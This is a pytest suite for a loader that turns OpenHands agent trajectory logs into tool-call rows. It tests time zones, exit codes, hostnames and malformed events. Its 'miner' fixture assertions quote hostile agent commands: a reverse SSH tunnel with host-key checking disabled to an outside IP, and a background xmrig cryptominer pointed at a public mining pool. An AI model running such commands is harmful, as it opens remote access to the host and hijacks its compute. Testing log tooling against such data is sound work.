"""OpenHands loader: action/observation brackets, exit codes (and the -1 still-running case),
hostnames, naive local times with the zone hint from model_response.created, malformed events,
strict mode, gzip and sniffing."""

from __future__ import annotations

import json
import re
from functools import cache
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from loader_helpers import ns, rows
from loader_helpers import type_confused as _type_confused

from correlate.errors import FormatMismatch, InputError, StrictRejection
from correlate.loaders import LoadOptions, LoadResult
from correlate.loaders import openhands as loader
from correlate.sources import Source

ROOT = Path(__file__).resolve().parent.parent
DATA = ROOT / "tests" / "data" / "openhands"
GUI = DATA / "basic_gui_mode_naive_local.json"
EDIT = DATA / "basic_edit_only.json"
CHAT = DATA / "basic_interactions_no_tools.json"
MINER = DATA / "miner_session_api_export.json"
MALFORMED = DATA / "malformed_events.json"
SAMPLES = sorted(p for p in DATA.iterdir() if p.is_file() and p.name != "README.md")
FIXED_PLUS8 = "no zone: read at UTC+08:00, fixed by model_response.created on 6 actions"
RUNNING = "exit_code -1: command still running when OpenHands stopped waiting (ts_end)"


def display(path: Path) -> str:
    try:
        return str(path.relative_to(ROOT))
    except ValueError:
        return path.name


def load(path: Path, options: LoadOptions | None = None, shown: str | None = None) -> LoadResult:
    return loader.read(Source(path, shown or display(path)), options or LoadOptions())


@cache
def loaded(path: Path) -> LoadResult:
    return load(path)


def by_call(result: LoadResult) -> dict[str, dict[str, Any]]:
    return {row["call_id"]: row for row in rows(result.table)}


SHANGHAI = LoadOptions(zones={"openhands": ZoneInfo("Asia/Shanghai")})


def test_tunnel_run_row_is_exact_with_the_right_zone():
    row = by_call(load(MINER, SHANGHAI))["toolu_01Tunnel"]
    command = "ssh -fNR 2222:localhost:22 -o StrictHostKeyChecking=no tunnel@203.0.113.7"
    assert row == {
        "call_id": "toolu_01Tunnel",
        "run_id": None,
        "episode_id": "miner_session_api_export",
        "step": 2,
        "ts_start": ns("2025-12-02T06:11:23.1Z"),  # 14:11:23.1 in Asia/Shanghai
        "ts_end": ns("2025-12-02T06:11:35.7Z"),
        "ts_kind": "bracket",
        "tool": "execute_bash",
        "command": command,
        "arguments": json.dumps(
            {
                "command": command,
                "is_input": False,
                "blocking": False,
                "hidden": False,
                "confirmation_state": "confirmed",
            }
        ),  # args without the thought
        "output": "ssh: connect to host 203.0.113.7 port 22: Connection timed out",
        "exit_code": 255,
        "is_error": True,
        "host": "b2c9e4f10a7d",
        "host_ip": None,
        "model": "claude-sonnet-4-5-20250929",
        "train_step": None,
        "ts_note": "no zone: assumed Asia/Shanghai",  # agrees with model_response.created: no hint
        "source_format": "openhands",
        "source_path": "tests/data/openhands/miner_session_api_export.json",
        "source_line": 3,
    }


def test_without_a_zone_the_offset_model_response_created_fixes_is_used_and_noted():
    result = loaded(MINER)
    row = by_call(result)["toolu_01Tunnel"]
    assert row["ts_start"] == ns("2025-12-02T06:11:23.1Z")  # as with --tz Asia/Shanghai
    assert row["ts_note"] == FIXED_PLUS8
    assert result.stats.notes == {FIXED_PLUS8: 4, f"{FIXED_PLUS8}; {RUNNING}": 1}


def test_an_explicit_zone_wins_over_the_offset_the_file_fixes():
    result = load(MINER, LoadOptions(zones={"openhands": ZoneInfo("UTC")}))
    row = by_call(result)["toolu_01Tunnel"]
    assert row["ts_start"] == ns("2025-12-02T14:11:23.1Z")  # read as UTC, as asked: 8 h late
    assert row["ts_note"] == "no zone: assumed UTC (model_response.created fixes UTC+08:00)"


def test_exit_code_minus_one_means_still_running_not_failed():
    row = by_call(loaded(MINER))["toolu_01Miner"]
    assert (row["exit_code"], row["is_error"]) == (None, None)
    assert row["ts_note"].endswith(RUNNING)
    assert row["host"] == "b2c9e4f10a7d"  # its observation names none: the one seen before
    assert row["command"] == "nohup ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 &"


def test_ipython_browse_and_error_observations():
    calls = by_call(loaded(MINER))
    ipython = calls["toolu_01Ipy"]
    assert ipython["tool"] == "execute_ipython_cell"
    assert ipython["command"].startswith("import urllib.request\n")
    assert ipython["is_error"] is None  # no exit code, no success flag
    browse = calls["toolu_01Browse"]
    assert (browse["command"], browse["is_error"]) == (None, True)
    assert json.loads(browse["arguments"]) == {
        "url": "http://198.51.100.23/x/",
        "return_axtree": False,
    }
    assert browse["output"] == "Browser environment took too long to respond."


def test_hostname_changes_after_a_runtime_restart():
    calls = by_call(loaded(MINER))
    assert calls["toolu_01Meta"]["host"] == "7e1d0c5b9f33"
    assert calls["toolu_01Browse"]["host"] == "b2c9e4f10a7d"


def test_miner_session_accounting():
    stats = loaded(MINER).stats
    assert (stats.read, stats.loaded, stats.rejected) == (13, 5, 0)
    assert stats.skipped == {
        "message action (not a tool call)": 1,
        "agent_state_changed observation (no cause: not a tool result)": 1,
        "observation (folded into its action's row)": 5,
        "finish action (not a tool call)": 1,
    }


def test_real_gui_mode_trajectory():
    result = loaded(GUI)
    table = rows(result.table)
    assert [r["call_id"] for r in table] == [
        "toolu_01W9Z8jBctr8X2frZV9p1RYs",
        "toolu_01YYLXwwdBLwtMmjr5Sfsieg",
        "toolu_01GpJj2ShdFjb9ZTY4CVxi9C",
        "toolu_01DwihWr4ooPZS1CGTLAWrFP",
    ]
    mkdir = table[0]
    assert (mkdir["ts_start"], mkdir["ts_end"]) == (
        ns("2025-01-21T04:29:35.040676Z"),  # naive 20:29:35 at UTC-08:00, which the file fixes
        ns("2025-01-21T04:29:35.699033Z"),
    )
    assert (mkdir["exit_code"], mkdir["is_error"], mkdir["host"]) == (0, False, "18f4db943d2f")
    assert mkdir["ts_note"] == (
        "no zone: read at UTC-08:00, fixed by model_response.created on 4 actions"
    )
    server = table[3]
    assert server["command"] == "cd /workspace/todo-app && python3 -m http.server 8000"
    assert (server["exit_code"], server["host"]) == (None, "18f4db943d2f")
    assert [r["step"] for r in table] == [7, 9, 11, 13]
    assert [r["source_line"] for r in table] == [8, 10, 12, 14]


def test_real_gui_mode_with_the_suggested_offset_has_no_hint():
    result = load(GUI, LoadOptions(zones={"openhands": ZoneInfo("America/Los_Angeles")}))
    first = rows(result.table)[0]
    assert first["ts_start"] == ns("2025-01-21T04:29:35.040676Z")
    assert first["ts_note"] == "no zone: assumed America/Los_Angeles"


def test_edit_only_and_chat_only_trajectories():
    edit = rows(loaded(EDIT).table)
    assert [(r["tool"], r["command"], r["exit_code"], r["step"]) for r in edit] == [
        ("str_replace_editor", None, None, 3)
    ]
    chat = loaded(CHAT)
    assert chat.table.num_rows == 0
    assert chat.stats.skipped == {
        "message action (not a tool call)": 5,
        "finish action (not a tool call)": 1,
    }


def test_episode_option_names_the_conversation():
    options = LoadOptions(format_options={"openhands": {"episode": "conv-7d41"}})
    assert {r["episode_id"] for r in rows(load(MINER, options).table)} == {"conv-7d41"}


def test_malformed_events_reject_exactly_the_bad_ones():
    result = loaded(MALFORMED)
    got = {r.location.line: r.reason for r in result.rejects}
    assert got == {
        1: "event is not an object but str",
        2: "neither an action nor an observation",
        3: "run action 2: timestamp: not an ISO 8601 time: 'yesterday'",
        6: "run action 5: exit_code is not an integer: 'zero'",
        10: "untyped action 9: action is not a name: ''",
    }
    assert result.stats.skipped == {
        "observation (folded into its action's row)": 2,
        "run observation of an unknown or already answered action": 1,
        "think action (not a tool call)": 1,
    }
    assert (result.stats.read, result.stats.loaded, result.stats.rejected) == (11, 2, 5)
    assert result.stats.balanced


def test_malformed_loaded_rows_note_what_was_assumed():
    calls = by_call(loaded(MALFORMED))
    reversed_end = calls["toolu_ok"]
    assert (reversed_end["ts_end"], reversed_end["exit_code"]) == (None, 1)
    assert reversed_end["ts_note"] == "no zone: assumed UTC; end before start: end ignored"
    unanswered = calls["toolu_no_obs"]
    assert (unanswered["ts_end"], unanswered["is_error"]) == (None, None)
    assert (
        unanswered["ts_note"]
        == "no zone: assumed UTC; no observation (not run, or the run stopped)"
    )


def test_strict_stops_at_the_first_rejected_event():
    with pytest.raises(StrictRejection, match=rf"^{re.escape(display(MALFORMED))}:1: event is not"):
        load(MALFORMED, LoadOptions(strict=True))


def test_object_without_a_trajectory_is_one_rejected_record(tmp_path):
    path = tmp_path / "x.json"
    path.write_text('{"events": []}')
    result = load(path, shown="x.json")
    assert [(r.location.line, r.reason) for r in result.rejects] == [
        (1, "not an OpenHands event list")
    ]


@pytest.mark.parametrize("path", SAMPLES, ids=lambda p: p.name)
def test_sniff_recognises_every_sample(path):
    source = Source(path, path.name)
    assert loader.sniff(source.head(), source.name) >= 0.8


@pytest.mark.parametrize(
    "content",
    [
        b'[{"id": 1, "timestamp": "2025-01-01T00:00:00", "source": "x", "message": "hi"}]',
        b'{"events": [{"id": 1, "timestamp": "t", "source": "agent", "action": "run", "args": {}}]}',
        b'[{"role": "assistant", "content": "run", "action": "ls"}]',
        b'{"trajectory": [{"action": "ls", "observation": "x", "thought": "y", "response": "z"}]}',
        b"\x1f\x8b\x08\x00gzip-header",
    ],
    ids=["no-action", "other-wrapper", "chat", "swe-agent", "binary"],
)
def test_sniff_rejects_near_misses(content):
    assert loader.sniff(content, "trajectory.json") == 0.0


def test_the_episode_setting_is_a_declared_option_for_the_cli():
    assert set(loader.OPTIONS) == {"episode"}


def test_values_of_the_wrong_type_never_crash_the_loader(tmp_path):
    path = tmp_path / "confused.json"
    for document in _type_confused(json.loads(MINER.read_text())):
        path.write_text(json.dumps(document))
        try:
            result = loader.read(Source(path, "confused.json"), LoadOptions())
        except (InputError, FormatMismatch):
            continue
        assert result.stats.balanced, document
